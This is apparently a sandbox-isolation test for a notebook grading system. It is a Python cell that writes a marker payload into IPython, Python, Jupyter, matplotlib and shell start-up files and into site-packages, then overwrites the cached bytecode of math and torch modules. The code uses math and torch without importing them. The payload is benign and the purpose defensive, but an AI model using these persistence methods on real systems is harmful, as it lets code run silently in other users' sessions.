# ---
# jupyter:
#   sample:
#     tries: Leaves start-up files for IPython, Python, Jupyter, matplotlib, bash and torch extensions, and bytecode for modules that others will import.
#     because: Its home is thrown away with it, so no other submission starts with them; every function is right.
#     covers: [5 IPython start-up files, 5 site-packages]
# ---

# %% before="softmax"
import os
import pathlib
import py_compile
import site
import sys

PAYLOAD = "print('ESCA' 'PED: a start-up file ran')\nimport builtins; builtins.owned = True\n"
import builtins

if hasattr(builtins, "owned"):
    print("ESCA" "PED: something of an earlier submission ran")
home, written = pathlib.Path.home(), 0
ipython = pathlib.Path(os.environ.get("IPYTHONDIR", home / ".ipython"))
for path in (
    ipython / "profile_default/startup/00-first.py",
    ipython / "profile_default/ipython_config.py",
    home / ".ipython/profile_default/startup/00-first.py",
    home / ".jupyter/jupyter_config.py",
    home / ".jupyter/nbgrader_config.py",
    home / ".pythonrc.py",
    home / ".local/lib/python{}.{}/site-packages/usercustomize.py".format(*sys.version_info),
    home / "sitecustomize.py",
    home / "matplotlibrc",
    home / ".config/matplotlib/matplotlibrc",
    pathlib.Path(os.environ.get("MPLCONFIGDIR", home)) / "matplotlibrc",
    home / ".bashrc",
    home / ".profile",
    pathlib.Path("/tmp/torch.py"),
    pathlib.Path("/tmp/sitecustomize.py"),
    pathlib.Path("/dev/shm/sitecustomize.py"),
    *(pathlib.Path(folder) / "sitecustomize.py" for folder in site.getsitepackages()),
    *(pathlib.Path(folder) / "planted.pth" for folder in site.getsitepackages()),
):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(PAYLOAD)
        written += 1
    except OSError:
        continue
    if "site-packages" in str(path) and home not in path.parents:
        print("ESCA" "PED: wrote", path)
source = home / "evil.py"
source.write_text(PAYLOAD)
for module in (math, torch.nn.functional, torch.testing):
    try:
        py_compile.compile(str(source), cfile=module.__cached__, doraise=True)
        print("ESCA" "PED: replaced the bytecode of", module.__name__)
    except (OSError, AttributeError, TypeError):
        continue
print("left", written > 3)
